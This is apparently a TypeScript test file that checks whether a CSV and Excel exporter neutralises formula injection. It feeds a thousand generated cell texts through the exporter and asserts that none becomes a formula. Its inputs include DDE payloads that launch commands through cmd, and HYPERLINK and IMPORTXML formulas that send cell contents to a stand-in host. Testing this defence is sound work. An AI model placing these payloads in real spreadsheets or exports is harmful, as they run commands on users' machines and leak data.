import fc from 'fast-check';
import { strFromU8, unzipSync } from 'fflate';
import Papa from 'papaparse';
import { expect, it } from 'vitest';
import { csvText } from './csv.ts';
import { xlsxBlob } from './xlsx.ts';

/** How a text begins that a spreadsheet would compute, alone and behind what it passes over. */
const SIGNS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
const BODIES = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://elsewhere.example?x="&A1,"x")',
  'IMPORTXML(CONCAT("https://elsewhere.example/",A1),"//a")',
  'SUM(1+9)*cmd',
  'DDE("cmd";"/C calc";"x")',
  '2+5+cmd|\' /C calc\'!A0";"x',
  'A1\r\n=2',
  '"=1"',
  '994 50 123 45 67',
];
const text = fc
  .tuple(fc.constantFrom(...SIGNS), fc.oneof(fc.constantFrom(...BODIES), fc.string({ unit: 'binary' })))
  .map(([sign, body]) => sign + body);
const TEXTS = fc.sample(text, { seed: 1, numRuns: 1_000 });
const list = {
  title: 'Siyahı',
  head: ['A', 'B'],
  rows: TEXTS.map((each, at) => [each, -at - 0.5]),
  zone: 'Asia/Baku',
};

it('none of a thousand texts is a formula in CSV, and none is lost', () => {
  const { data } = Papa.parse<string[]>(csvText(list).slice(1), { delimiter: ';', newline: '\r\n' });
  const rows = data.slice(1);
  expect(rows.filter(([cell = '']) => !cell.startsWith("'"))).toEqual([]);
  expect(rows.map(([cell = '']) => cell.slice(1))).toEqual(TEXTS);
  // A negative number is a number.
  expect(rows.map(([, cell]) => cell)).toEqual(TEXTS.map((_, at) => String(-at - 0.5).replace('.', ',')));
});

it('none of a thousand texts is a formula in an Excel file', async () => {
  const files = unzipSync(new Uint8Array(await (await xlsxBlob(list)).arrayBuffer()));
  const sheet = strFromU8(files['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
  expect(sheet.match(/<c r="A/g)).toHaveLength(1_001);
  expect(sheet.match(/<c r="A\d+"[^>]*t="s"/g)).toHaveLength(1_001);
  expect(sheet).not.toMatch(/<f[ >]/);
  expect(sheet.match(/<c r="B\d+"(?![^>]*t="s")[^>]*><v>-/g)).toHaveLength(1_000);
});
